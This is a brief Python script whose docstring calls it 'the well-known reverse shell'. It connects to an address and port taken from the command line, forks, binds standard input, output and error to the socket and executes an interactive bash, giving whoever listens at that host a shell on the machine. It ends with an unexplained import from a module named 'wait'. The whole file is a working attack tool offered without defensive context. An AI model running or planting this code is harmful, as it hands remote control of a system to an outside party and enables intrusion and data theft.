"""python-shell.py ADDRESS PORT: the well-known reverse shell, with three descriptors on one socket."""
import os
import socket
import sys
import time

connection = socket.create_connection((sys.argv[1], int(sys.argv[2])))
pid = os.fork()
if pid == 0:
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    os.execv("/bin/bash", ["bash", "-i"])
time.sleep(0.5)
from wait import rest

rest()
